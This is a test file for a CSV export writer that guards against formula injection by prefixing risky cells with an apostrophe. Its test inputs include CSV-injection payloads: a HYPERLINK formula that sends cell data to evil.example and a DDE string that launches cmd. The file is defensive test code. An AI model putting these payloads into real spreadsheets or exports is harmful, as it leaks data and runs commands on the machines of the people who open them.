/**
 * CSV injection (OWASP): text from contributed records must never start a
 * formula when a journalist opens a download in a spreadsheet. Every CSV goes
 * through one writer; these tests read the files back with csv-parse.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvText, tableToCsv } from '../../src/export/csv';
import { exportOpenData, indicatorsCsv } from '../../src/export/index';
import { recordToCsv } from '../../src/lib/record-csv';
import { ind, rec, val } from '../compare/helpers';

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', '=1+1'];

const hostile = rec({
  id: '640100-2026-target-0000dddd',
  name: HOSTILE[0],
  goal: HOSTILE[3],
  department: { name: HOSTILE[1], code: null },
  indicators: HOSTILE.map((name) => ind('产出指标', '数量指标', name, val('100%', '=', 100, '%'))),
});

function rows(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: false });
}

function formulaCells(csv: string): string[] {
  return rows(csv)
    .flat()
    .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));
}

describe('CSV cells that would start a formula', () => {
  it('get a leading apostrophe, keeping the text after it', () => {
    for (const s of HOSTILE) expect(csvText(s)).toBe(`'${s}`);
  });

  it('plain numbers, negative ones included, and ordinary text are left alone', () => {
    for (const s of ['-5', '+3.25', '-1e-7', '100%', '≥95%', '政务公开', '-', '']) expect(csvText(s)).toBe(s === '-' ? "'-" : s);
  });

  it('the comparator = is written as ＝ (no apostrophe needed), the others as they are', () => {
    expect(['=', '≥', '≤', '>', '<', '≈', 'range'].map(csvText)).toEqual(['＝', '≥', '≤', '>', '<', '≈', 'range']);
  });

  it('no file of the open-data export holds a cell that starts a formula', () => {
    const files = exportOpenData([hostile], { audit: [{ id: hostile.id, code: 'X', message: HOSTILE[0], position: 1 }] });
    const csvs = files.filter((f) => f.path.endsWith('.csv'));
    expect(csvs.map((f) => f.path)).toEqual(expect.arrayContaining(['projects.csv', 'indicators.csv', 'flags.csv']));
    for (const f of csvs) expect(formulaCells(f.content), f.path).toEqual([]);
    const indicators = rows(files.find((f) => f.path === 'indicators.csv')!.content);
    const nameCol = indicators[0].indexOf('indicators.name');
    const opCol = indicators[0].indexOf('indicators.target.op');
    expect(indicators.slice(1).map((r) => r[nameCol])).toEqual(HOSTILE.map((s) => `'${s}`));
    expect(new Set(indicators.slice(1).map((r) => r[opCol]))).toEqual(new Set(['＝']));
    const datapackage = JSON.parse(files.find((f) => f.path === 'datapackage.json')!.content);
    const opField = datapackage.resources
      .find((r: { path: string }) => r.path === 'indicators.csv')
      .schema.fields.find((f: { name: string }) => f.name === 'indicators.target.op');
    expect(opField.constraints.enum).toContain('＝');
    expect(opField.constraints.enum).not.toContain('=');
  });

  it('the per-project download and the comparison tables go through the same writer', () => {
    expect(formulaCells(recordToCsv(hostile))).toEqual([]);
    expect(formulaCells(indicatorsCsv([hostile]))).toEqual([]);
    const table = { columns: [{ name: '=cmd' }, { name: 'b' }], rows: [[HOSTILE[2], -5]] };
    expect(rows(tableToCsv(table as Parameters<typeof tableToCsv>[0]))).toEqual([["'=cmd", 'b'], ["'-2+3", '-5']]);
  });
});
